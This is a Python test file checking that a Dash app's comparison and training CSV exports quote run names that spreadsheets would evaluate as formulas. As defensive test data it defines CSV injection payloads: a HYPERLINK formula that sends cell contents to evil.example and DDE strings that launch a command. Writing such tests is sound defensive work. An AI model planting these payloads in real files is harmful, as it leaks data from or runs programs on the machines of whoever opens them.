"""CSV formula injection: no text cell of a CSV the app writes can run as a spreadsheet formula.

A run name is the user's (or an imported file's) text; a spreadsheet opening the comparison
CSV reads a cell starting with ``= + - @`` (or a tab or carriage return before one) as a
formula: ``=HYPERLINK(...)`` leaks the sheet, ``+cmd|' /C calc'!A0`` asks to start a program.
Such a cell is written with a leading ``'`` (OWASP's advice), numbers stay numbers.
"""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Callable
from typing import Any

import dash
import pytest
from renderer import Callbacks

import simulator as sim
from layouts import ids
from simulator import saved
from views import csv_cells
from views import training_export as te
from views.comparison import TABLE_COLUMNS, rows_to_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text: str) -> None:
    assert csv_cells.cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2.5, -3, 0, 1e-9, 7])
def test_numbers_stay_numbers_even_negative(value: float) -> None:
    assert csv_cells.cell(value) == value


@pytest.mark.parametrize(
    ("value", "written"),
    [("my baseline", "my baseline"), ("a=b", "a=b"), ("", ""), (None, ""), (True, "True")],
)
def test_other_cells_are_written_as_they_are(value: Any, written: str) -> None:
    assert csv_cells.cell(value) == written


def test_the_comparison_csv_quotes_hostile_run_names_and_keeps_numbers() -> None:
    rows: list[dict[str, Any]] = [
        {"run": name, "kind": "saved run", "status": "-stopped", "steps": 5} for name in HOSTILE
    ]
    rows.append({"run": "plain", "train_loss": -0.5, "steps": 1})
    parsed = list(csv.reader(io.StringIO(rows_to_csv(rows), newline="")))
    assert parsed[0] == [title for _, title in TABLE_COLUMNS]
    assert [r[0] for r in parsed[1:-1]] == ["'" + n for n in HOSTILE]
    assert all(r[2] == "'-stopped" for r in parsed[1:-1])
    assert parsed[-1][:6] == ["plain", "", "", "1", "-0.5", ""]  # a negative number, unquoted


def test_a_line_break_inside_a_name_cannot_start_a_row_with_a_formula() -> None:
    text = rows_to_csv([{"run": "x\r=1+1", "steps": 1}, {"run": "y\n@SUM(1)", "steps": 2}])
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in parsed[1:]] == ["x\r=1+1", "y\n@SUM(1)"]  # two rows, one cell each


def test_the_training_metrics_csv_holds_only_numbers() -> None:
    """It writes no text the user chose (its headers are constants), so it needs no quoting:
    every cell under the header is a number or empty."""
    state = sim.advance(sim.start(sim.new_run(sim.preset("llama-2-7b"), name=HYPERLINK)), 40)
    lines = te.metrics_csv(state).splitlines()
    assert lines[0].split(",") == list(te.CSV_COLUMNS)
    for line in lines[1:]:
        for value in line.split(","):
            assert value == "" or isinstance(float(value), float), line  # text would raise


# ------------------------------------------------------------------ through the callbacks
class Ui:
    """The app's callbacks over HTTP, requests built from ``/_dash-dependencies``."""

    def __init__(self, app: dash.Dash) -> None:
        self.client = app.server.test_client()
        self.callbacks = Callbacks(self.client.get("/_dash-dependencies").json)

    def post(
        self, output: str, values: dict[str, Any], changed: list[str], *, duplicate: bool = False
    ) -> dict[str, Any]:
        dep = self.callbacks.find_output(output, duplicate)
        r = self.callbacks.post(self.client, dep, values, changed)
        assert r.status_code == 200, r.data[:300]
        response: dict[str, Any] = r.json["response"]
        return response


def _run(name: str, seed: int = 0) -> sim.RunState:
    cfg = sim.preset("vicuna-7b", seed=seed)
    return sim.stop(sim.advance(sim.start(sim.new_run(cfg, name=name)), 300))


def test_a_hostile_run_imported_then_renamed_is_exported_as_text(
    make_app: Callable[[], dash.Dash],
) -> None:
    """Import a file whose run is named ``=HYPERLINK(...)``, rename another to a DDE payload,
    compare both and press Export CSV: both names come back quoted, the numbers unquoted."""
    ui = Ui(make_app())
    listed, _ = saved.add_run([], _run(HYPERLINK))
    listed, _ = saved.add_run(listed, _run("second", seed=1))  # another run, not a copy
    blob = base64.b64encode(saved.export_document(listed).encode()).decode()
    upload = "data:application/json;base64," + blob
    resp = ui.post(
        ids.SAVED_RUNS_STORE + ".data",
        {f"{ids.CMP_IMPORT_UPLOAD}.contents": upload, f"{ids.SAVED_RUNS_STORE}.data": []},
        [f"{ids.CMP_IMPORT_UPLOAD}.contents"],
        duplicate=True,
    )
    imported = resp[ids.SAVED_RUNS_STORE]["data"]
    second = next(e["id"] for e in imported if e["state"].get("name") == "second")
    resp = ui.post(
        ids.SAVED_RUNS_STORE + ".data",
        {
            f"{ids.CMP_RENAME_BUTTON}.n_clicks": 1,
            f"{ids.CMP_SAVED_TABLE}.selected_row_ids": [second],
            f"{ids.CMP_RENAME_INPUT}.value": DDE,
            f"{ids.SAVED_RUNS_STORE}.data": imported,
        },
        [f"{ids.CMP_RENAME_BUTTON}.n_clicks"],
        duplicate=True,
    )
    renamed = resp[ids.SAVED_RUNS_STORE]["data"]
    selection = [{"kind": "saved", "ref": e["id"]} for e in renamed]
    resp = ui.post(
        f"{ids.CMP_METRICS_TABLE}.data",
        {
            f"{ids.CMP_SELECTION}.data": selection,
            f"{ids.SAVED_RUNS_STORE}.data": renamed,
            f"{ids.CMP_X_AXIS}.value": "step",
            f"{ids.CMP_CURVE_KIND}.value": "train",
            f"{ids.CMP_SMOOTHING}.value": 0.6,
            f"{ids.CMP_LOG_AXES}.value": [],
        },
        [],
    )
    rows = resp[ids.CMP_METRICS_TABLE]["data"]
    gpus = " · " + saved.hardware(_run("x"))  # a saved run's label ends with its GPUs
    assert sorted(r["run"] for r in rows) == sorted([HYPERLINK + gpus, DDE + gpus])
    resp = ui.post(
        f"{ids.CMP_CSV_DOWNLOAD}.data",
        {f"{ids.CMP_CSV_BUTTON}.n_clicks": 1, f"{ids.CMP_METRICS_TABLE}.data": rows},
        [f"{ids.CMP_CSV_BUTTON}.n_clicks"],
    )
    text = resp[ids.CMP_CSV_DOWNLOAD]["data"]["content"]
    table = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["Run"] for r in table) == sorted(["'" + HYPERLINK + gpus, "'" + DDE + gpus]), (
        json.dumps(table)
    )
    for r in table:
        assert float(r["Final train loss"]) > 0 and int(r["Steps"]) == 300
